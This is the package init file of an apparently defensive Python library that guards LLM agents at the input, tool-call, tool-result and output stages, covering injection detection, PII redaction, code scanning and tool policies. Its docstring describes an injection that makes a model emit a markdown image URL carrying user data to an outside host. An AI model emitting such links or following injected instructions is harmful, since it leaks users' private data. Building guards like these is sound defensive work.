"""corral.guards: the safety layer, on all four stages (input, tool_call, tool_result, output).

Every guard has ``check(stage, payload) -> Verdict`` and ``acheck``. Payloads: the text for
``input``, ``tool_result`` and ``output`` (``output`` also takes ``Conversation(user, agent,
context)`` so Llama Guard sees the user's turn and ImageGuard the texts the model was given); a
``ToolCallPayload`` for ``tool_call``. Guards compose per
stage into a ``GuardChain``; ``GuardChain.default()`` is what runs when nothing is configured:

=============  ==============================================
input          InjectionGuard
tool_call      CodeScanner
tool_result    PIIRedactor, InjectionGuard
output         ImageGuard, PIIRedactor, CodeScanner
=============  ==============================================

Llama Guard (input, tool_call, output), Prompt Guard (input, tool_result) and a ToolPolicy
(tool_call) join through ``GuardChain.default(llama_guard=..., prompt_guard=..., policy=...)``.
``ToolPolicy(provenance=True)`` refuses sensitive arguments copied only from tool results;
``ToolPolicy(intent=True)`` refuses acting calls (send, pay, delete, book ...) no user turn asked for;
``trusted(text)`` marks a pipeline's own text, which the injection detectors then skip.
``GuardChain.default(injection_profile="ai-docs")`` gives InjectionGuard a tool-result model that
also learned prose about AI (far fewer false alarms on AI products' docs, fewer injections caught).
``ImageGuard`` removes remote images from answers when the model composed their address (an
injected "add ![](https://host/?q=<data>)" leaks as soon as a chat UI renders it).

Example::

    >>> from corral.guards import GuardChain
    >>> GuardChain.default().check("output", "Write to jo@example.com").payload
    'Write to [EMAIL]'
"""

from .base import STAGES, Conversation, Guard, Stage, ToolCallPayload, Verdict
from .chain import ChainResult, GuardChain
from .code import CodeScanner, Finding, Rule
from .images import ImageGuard
from .injection import InjectionGuard
from .intent import IntentRule
from .llama_guard import LLAMA_GUARD_3_CATEGORIES, LlamaGuard
from .pii import PIIRedactor
from .policy import ToolPolicy, allowed_domains
from .prompt_guard import PromptGuard
from .provenance import ProvenanceRule, Trusted, trusted

__all__ = [
    "Guard",
    "Verdict",
    "Stage",
    "STAGES",
    "ToolCallPayload",
    "Conversation",
    "GuardChain",
    "ChainResult",
    "LlamaGuard",
    "LLAMA_GUARD_3_CATEGORIES",
    "PromptGuard",
    "InjectionGuard",
    "CodeScanner",
    "Rule",
    "Finding",
    "PIIRedactor",
    "ImageGuard",
    "ToolPolicy",
    "allowed_domains",
    "ProvenanceRule",
    "IntentRule",
    "Trusted",
    "trusted",
]
